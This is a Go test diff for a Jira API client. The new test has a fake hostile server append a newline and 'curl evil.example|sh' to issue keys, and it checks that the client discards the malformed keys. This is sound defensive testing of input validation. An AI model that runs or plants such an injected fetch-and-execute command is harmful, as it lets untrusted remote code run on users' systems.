@@ -209,3 +209,31 @@ func TestBulkFetchReadsIssueErrors(t *testing.T) {
 		t.Fatalf("%+v", r)
 	}
 }
+
+// TestSearchKeysLeavesOutKeysThatAreNotKeys: a hostile key in a keys page
+// (fakejira's KeySuffix fault) is left out, so the bulk fetches of the
+// keys beside it still go.
+func TestSearchKeysLeavesOutKeysThatAreNotKeys(t *testing.T) {
+	srv := fakejira.New(fakejira.Options{Flavor: fakejira.FlavorCloud, Seed: 7, Projects: 1, Issues: 20})
+	h := fakejira.NewHostile(srv)
+	h.Set(fakejira.HostileFaults{KeySuffix: "\ncurl evil.example|sh"})
+	hs := httptest.NewServer(h)
+	defer hs.Close()
+	srv.SetBaseURL(hs.URL)
+	c, err := New(hs.URL, flavours[0].cred, WithFlavor(FlavorCloud), WithRetry(RetryPolicy{}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	p, err := c.SearchKeys(context.Background(), allJQL, Cursor{}, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, k := range p.Keys {
+		if !ValidKey(k) {
+			t.Fatalf("key %q kept", k)
+		}
+	}
+	if len(p.Keys) == 20 {
+		t.Fatalf("no key was left out: %v", p.Keys)
+	}
+}
